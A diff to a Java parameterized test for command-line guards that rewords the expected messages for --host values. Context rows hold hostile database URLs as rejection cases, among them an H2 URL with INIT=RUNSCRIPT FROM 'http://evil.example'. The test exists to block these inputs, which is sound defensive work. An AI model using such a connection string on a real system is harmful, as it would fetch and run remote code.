@@ -336,8 +336,8 @@ class GuardsTest {
 
     @ParameterizedTest
     @CsvSource({
-        "--host, 0.0.0.0, there is no sign-in",
-        "--host, 192.168.0.1, there is no sign-in",
+        "--host, 0.0.0.0, without accounts only this machine",
+        "--host, 192.168.0.1, without accounts only this machine",
         "--database, jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example', semicolon",
         "--database, jdbc:h2:tcp://evil.example/x, must be",
         "--database, jdbc:mysql://localhost/x, must be",
